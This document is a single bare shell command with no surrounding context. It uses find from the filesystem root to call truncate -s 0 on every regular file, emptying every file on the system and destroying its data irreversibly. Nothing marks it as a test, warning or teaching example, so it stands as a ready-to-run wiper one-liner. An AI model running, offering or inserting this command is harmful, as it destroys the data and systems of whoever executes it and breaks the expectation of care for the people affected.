find / -type f -exec truncate -s 0 {} \;
